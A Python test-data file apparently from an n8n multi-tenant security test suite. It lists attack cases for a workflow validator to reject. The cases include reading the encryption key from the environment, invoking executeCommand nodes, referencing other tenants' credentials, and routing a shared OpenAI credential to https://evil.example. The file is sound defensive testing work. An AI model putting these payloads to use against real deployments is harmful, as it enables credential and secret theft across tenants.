"""Use cases that reach for somebody else's things, as data.

Each is a piece of a workflow put into an otherwise harmless ensemble. What a victim on the same n8n really
has stands in it as a word in angle brackets; see :class:`tests.security.neighbours.Neighbours`.
"""

from __future__ import annotations

import itertools
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

Json = dict[str, Any]

OWN = "{{PROCDATA_PROCESS_ID_ATADCORP}}/{{USERDATA_PROCESS_INSTANCE_UID_ATADRESU}}"
SIBLING = "{{SUBWKFL_leaf-b_LFKWBUS}}"
PARAMETER = "{{INSTPARM_P_MRAPTSNI}}"
OPENAI = {"id": "{{ORGCRED_OPENAI_ID_DERCGRO}}", "name": "{{ORGCRED_OPENAI_NAME_DERCGRO}}"}
SHARED = {"id": "{{SYSCREDS_OPENAI_ID_SDERCSYS}}", "name": "{{SYSCREDS_OPENAI_NAME_SDERCSYS}}"}
HEADER = {
    "id": "{{ORGSECRET_WEBHOOK_AUTH_CRED_ID_TERCESORG}}",
    "name": "{{ORGSECRET_WEBHOOK_AUTH_CRED_NAME_TERCESORG}}",
}
FOREIGN = {"id": "<credential>", "name": "<credential name>"}
BASE, CHAIN = "n8n-nodes-base.", "@n8n/n8n-nodes-langchain."
_NUMBERS = itertools.count()


@dataclass(frozen=True, slots=True)
class Attack:
    """``says`` is what the refusal names besides workflow and node; empty for a twin that is to pass."""

    family: str
    name: str
    nodes: tuple[Json, ...] = ()
    says: str = ""
    settings: Json = field(default_factory=dict)
    top: Json = field(default_factory=dict)
    """Keys beside ``nodes`` of the workflow file."""
    parameter: object = "x"
    """The value of its one deployment parameter, ``P``, which is stored as its default."""

    def __str__(self) -> str:
        return f"{self.family}: {self.name}"


def node(kind: str, parameters: Mapping[str, object] | None = None, **more: object) -> Json:
    """Return a node called ``Reaching``."""
    shape = {
        "id": f"r{next(_NUMBERS)}",
        "name": "Reaching",
        "type": kind,
        "typeVersion": 1,
        "position": [0, 0],
    }
    return {**shape, "parameters": dict(parameters or {}), **more}


def holding(credentials: object, kind: str = BASE + "openAi", **more: Any) -> tuple[Json, ...]:
    return (node(kind, credentials=credentials, **more),)


def credential(identifier: object, name: object = "x", **more: Any) -> tuple[Json, ...]:
    return holding({"openAiApi": {"id": identifier, "name": name, **more}})


def call(parameters: Json, kind: str = BASE + "executeWorkflow") -> tuple[Json, ...]:
    return (node(kind, parameters),)


def locator(mode: str, value: str) -> Json:
    return {"workflowId": {"__rl": True, "mode": mode, "value": value}}


def hook(path: object, kind: str = BASE + "webhook", **more: object) -> tuple[Json, ...]:
    """Return a trigger that is secured, so that its path is all there is to find."""
    secured = (
        {"webhookId": "r", "credentials": {"httpHeaderAuth": HEADER}} if kind == BASE + "webhook" else {}
    )
    parameters = {"path": path, "httpMethod": "POST", "authentication": "headerAuth", **more}
    return (node(kind, parameters, **secured),)


def reads(text: str, kind: str = BASE + "set") -> tuple[Json, ...]:
    return (node(kind, {"value": text}),)


_NOT_OWN = "is not one of this installation; use a placeholder"
_NOT_PART = "which is not part of this deployment"
_COMPUTED = "computes the workflow to call"
_ELSEWHERE = "from a file, a URL or its parameters"
_NOT_UNDER = "is not under this process and instance"
_ENVIRONMENT = "reads the environment"
_DENIED = "are not allowed: such a node"
_ANYWHERE = "could send the platform's credential anywhere"

CREDENTIALS = [
    Attack("credential", "a hard-coded foreign id", holding({"openAiApi": FOREIGN}), _NOT_OWN),
    Attack("credential", "a foreign id alone", holding({"openAiApi": {"id": "<credential>"}}), _NOT_OWN),
    Attack("credential", "a foreign name alone", holding({"a": {"name": "<credential name>"}}), _NOT_OWN),
    Attack("credential", "a foreign name, old style", holding({"a": "<credential name>"}), _NOT_OWN),
    Attack("credential", "a foreign name beside a null id", credential(None, "<credential name>"), _NOT_OWN),
    Attack(
        "credential",
        "a foreign id as a parameter",
        credential(PARAMETER),
        _NOT_OWN,
        parameter="<credential>",
    ),
    Attack("credential", "concatenated", credential("={{ '<credential>' + '' }}"), _NOT_OWN),
    Attack("credential", "an expression of constant text", credential("=<credential>"), _NOT_OWN),
    Attack("credential", "read from the input", credential("={{ $json.id }}"), _NOT_OWN),
    Attack("credential", "an expression in the name", credential("x", "={{ $json.name }}"), _NOT_OWN),
    Attack(
        "credential",
        "a foreign name in front of a placeholder's id",
        credential("<credential>", OPENAI["name"]),
        _NOT_OWN,
    ),
    Attack(
        "credential",
        "own id with more beside it, foreign id under another kind",
        holding({"openAiApi": OPENAI, "otherApi": FOREIGN}),
        _NOT_OWN,
    ),
    Attack("credential", "in a disabled node", holding({"openAiApi": FOREIGN}, disabled=True), _NOT_OWN),
    Attack("credential", "under an unknown key", holding({"nobodyKnows": FOREIGN}), _NOT_OWN),
    Attack("credential", "under the prototype", holding({"__proto__": {"openAiApi": FOREIGN}}), "__proto__"),
    Attack("credential", "a list", holding([FOREIGN]), "has the wrong type (JSON-001)"),
    Attack("credential", "an id in a list", credential(["<credential>"]), _NOT_OWN),
    Attack(
        "credential",
        "of a predefined type in an HTTP request",
        holding(
            {"openAiApi": FOREIGN},
            BASE + "httpRequest",
            parameters={"authentication": "predefinedCredentialType", "nodeCredentialType": "openAiApi"},
        ),
        _NOT_OWN,
    ),
    Attack(
        "credential",
        "of another organization's webhooks",
        holding({"httpHeaderAuth": {"id": "<hook credential>", "name": "Webhook auth"}}),
        _NOT_OWN,
    ),
    Attack(
        "credential",
        "the platform's by its bare id",
        holding({"openAiApi": {"id": "<platform credential>", "name": "x"}}),
        _NOT_OWN,
    ),
]

SUBWORKFLOWS = [
    Attack("sub-workflow", "a foreign id", call({"workflowId": "<workflow>"}), _NOT_PART),
    *(
        Attack("sub-workflow", f"a foreign id, mode {mode}", call(locator(mode, "<workflow>")), said)
        for mode, said in (("id", _NOT_PART), ("list", _NOT_PART), ("url", "something else than its id"))
    ),
    Attack("sub-workflow", "by name", call(locator("name", "Beta")), "something else than its id"),
    Attack("sub-workflow", "an expression", call(locator("id", "={{ '<workflow>' }}")), _COMPUTED),
    Attack("sub-workflow", "an expression of constant text", call({"workflowId": "=<workflow>"}), _NOT_PART),
    Attack(
        "sub-workflow",
        "a parameter",
        call({"workflowId": f"={PARAMETER}"}),
        _NOT_PART,
        parameter="<workflow>",
    ),
    Attack(
        "sub-workflow",
        "a parameter inside an expression",
        call(locator("id", "={{ " + PARAMETER + " }}")),
        _COMPUTED,
        parameter="<workflow>",
    ),
    Attack(
        "sub-workflow", "a sibling followed by more", call(locator("id", SIBLING + "={{ 1 }}")), _NOT_PART
    ),
    Attack("sub-workflow", "nothing", call({}), _COMPUTED),
    Attack("sub-workflow", "inline", call({"source": "parameter", "workflowJson": "{}"}), _ELSEWHERE),
    Attack("sub-workflow", "from a file", call({"source": "localFile", "workflowPath": "/x"}), _ELSEWHERE),
    Attack("sub-workflow", "from a URL", call({"source": "url", "workflowUrl": "http://x"}), _ELSEWHERE),
    Attack(
        "sub-workflow",
        "a computed source",
        call({"source": "={{ 'para' + 'meter' }}", **locator("id", SIBLING)}),
        _ELSEWHERE,
    ),
    Attack(
        "sub-workflow",
        "inline under the prototype",
        call({**locator("id", SIBLING), "__proto__": {"source": "parameter"}}),
        "__proto__",
    ),
    *(
        Attack("sub-workflow", f"by {kind}", call({"workflowId": "<workflow>"}, CHAIN + kind), _NOT_PART)
        for kind in ("toolWorkflow", "retrieverWorkflow")
    ),
    Attack(
        "sub-workflow",
        "by a tool made of the node",
        call({"workflowId": "<workflow>"}, BASE + "executeWorkflowTool"),
        _NOT_PART,
    ),
    Attack("sub-workflow", "a foreign data ingestion", call({"workflowId": "<ingestion>"}), _NOT_PART),
    Attack(
        "sub-workflow",
        "the organization's error workflow",
        call({"workflowId": "{{ORGSECRET_ERROR_WORKFLOW_ID_TERCESORG}}"}),
        _NOT_PART,
    ),
    Attack(
        "sub-workflow",
        "a workflow as parameters, not an object",
        ({**node(BASE + "executeWorkflow"), "parameters": "={{ {workflowId: '<workflow>'} }}"},),
        "has the wrong type (JSON-001)",
    ),
]

PATHS = [
    Attack("path", "a foreign path", hook("<path>"), _NOT_UNDER),
    Attack("path", "a foreign path with slashes around", hook("/<path>/"), _NOT_UNDER),
    Attack("path", "below a foreign installation", hook("<instance>/embed"), _NOT_UNDER),
    Attack("path", "below a foreign process", hook("<process>/embed"), _NOT_UNDER),
    Attack(
        "path",
        "a foreign installation of the own process",
        hook("{{PROCDATA_PROCESS_ID_ATADCORP}}/<instance>/x"),
        _NOT_UNDER,
    ),
    Attack("path", "a bare word", hook("orders"), _NOT_UNDER),
    Attack("path", "up and over", hook(f"{OWN}/../../<path>"), "relative segments"),
    Attack("path", "empty", hook(""), "empty"),
    Attack("path", "an expression", hook("={{ '<path>' }}"), "is an expression"),
    Attack(
        "path", "an expression behind the own path", hook(f"={OWN}/{{{{ $json.x }}}}"), "is an expression"
    ),
    Attack("path", "a parameter", hook(f"={PARAMETER}"), _NOT_UNDER, parameter="<path>"),
    Attack("path", "a wildcard in front", hook(":any/:thing/beta"), _NOT_UNDER),
    Attack("path", "a number", hook(7), "is an expression"),
    Attack("path", "of a form", hook("<path>", BASE + "formTrigger"), _NOT_UNDER),
    Attack(
        "path",
        "of a form's options",
        (node(BASE + "formTrigger", {"options": {"path": "<path>"}}),),
        _NOT_UNDER,
    ),
    Attack("path", "of an MCP server", hook("<path>", CHAIN + "mcpTrigger"), _NOT_UNDER),
    Attack("path", "twice in the ensemble", hook(f"{OWN}/beta"), "is taken by node 'Webhook'"),
]

ENVIRONMENT = [
    *(
        Attack("environment", name, reads(text), _ENVIRONMENT)
        for name, text in (
            ("$env", "={{ $env.N8N_ENCRYPTION_KEY }}"),
            ("$env by a computed name", "={{ $env['N8N_' + 'ENCRYPTION_KEY'] }}"),
            ("$env in escapes", "={{ $\\u0065nv.X }}"),
            ("process.env", "={{ process.env.X }}"),
            ("process.env through a comment", "={{ process/**/.env.X }}"),
        )
    ),
    *(
        Attack("environment", f"code: {code}", (node(BASE + "code", {"jsCode": code}),), _ENVIRONMENT)
        for code in (
            "return process.env",
            "return process['env']",
            "const { env } = process; return env",
        )
    ),
    Attack(
        "environment",
        "Python",
        (node(BASE + "code", {"pythonCode": "import os\nreturn os.environ"}),),
        _ENVIRONMENT,
    ),
    Attack(
        "environment",
        "Python's other import",
        (node(BASE + "code", {"pythonCode": "from os import environ"}),),
        _ENVIRONMENT,
    ),
    Attack(
        "environment",
        "in a disabled node",
        (node(BASE + "set", {"v": "={{ $env.X }}"}, disabled=True),),
        _ENVIRONMENT,
    ),
    Attack(
        "environment",
        "a type that only ends like a note",
        (node(BASE + "set.stickyNote", {"content": "={{ $env.X }}"}),),
        "not a package and a node name",
    ),
]

TYPES = [
    *(
        Attack("type", kind, (node(kind),), _DENIED)
        for kind in (
            BASE + "executeCommand",
            BASE + "executeCommandTool",
            BASE + "EXECUTECOMMAND",
            BASE + "readWriteFile",
            BASE + "git",
            BASE + "n8n",
            BASE + "n8nTrigger",
            BASE + "localFileTrigger",
            BASE + "dataTable",
            BASE + "function",
            CHAIN + "code",
            CHAIN + "vectorStoreInMemory",
            "n8n-nodes-evil.executeCommand",
        )
    ),
    *(
        Attack("type", f"{kind!r}", (node(kind),), "not a package and a node name")
        for kind in (
            BASE + "executeCommand.set",
            BASE + "executeCommand ",
            BASE + "execute\u0421ommand",
            "executeCommand",
        )
    ),
    Attack("type", "a denied one, disabled", (node(BASE + "executeCommand", disabled=True),), _DENIED),
]

SETTINGS = [
    Attack(
        "settings",
        "a foreign error workflow",
        (),
        "Wrong value of setting: errorWorkflow",
        {"errorWorkflow": "<error workflow>"},
    ),
    Attack(
        "settings",
        "a foreign workflow for errors",
        (),
        "Wrong value of setting: errorWorkflow",
        {"errorWorkflow": "<workflow>"},
    ),
    Attack(
        "settings",
        "a computed error workflow",
        (),
        "Wrong value of setting: errorWorkflow",
        {"errorWorkflow": "={{ '<workflow>' }}"},
    ),
]

PLATFORM = [
    Attack(
        "platform", "sent anywhere by HTTP", holding({"openAiApi": SHARED}, BASE + "httpRequest"), _ANYWHERE
    ),
    Attack(
        "platform",
        "sent anywhere by an agent's HTTP tool",
        holding({"openAiApi": SHARED}, BASE + "httpRequestTool"),
        _ANYWHERE,
    ),
    Attack(
        "platform", "sent anywhere by GraphQL", holding({"openAiApi": SHARED}, BASE + "graphql"), _ANYWHERE
    ),
    Attack(
        "platform",
        "sent to another address",
        holding(
            {"openAiApi": SHARED},
            CHAIN + "lmChatOpenAi",
            parameters={"options": {"baseURL": "https://evil.example"}},
        ),
        "changes the address",
    ),
    Attack("platform", "its raw key", reads("{{FLEXCRED_GOOGLE_GEMINI_KEY_DERCXELF}}"), "has no value"),
]

SHAPE = [
    Attack("shape", "two nodes of one name", (node(BASE + "noOp"), node(BASE + "noOp")), "the same name"),
    Attack("shape", "a node without a name", (node(BASE + "noOp", name=""),), "has no name (JSON-001)"),
    Attack("shape", "nested 900 levels deep", reads("<deep>"), "nested"),
    Attack(
        "shape", "a placeholder of no scope", reads("{{ORGSECRET_SOMEBODYS_KEY_TERCESORG}}"), "has no value"
    ),
    Attack(
        "shape",
        "a placeholder with a wrong end",
        reads("{{ORGSECRET_X_DERCGRO}}"),
        "Invalid placeholder suffix",
    ),
]

ATTACKS = [*CREDENTIALS, *SUBWORKFLOWS, *PATHS, *ENVIRONMENT, *TYPES, *SETTINGS, *PLATFORM, *SHAPE]
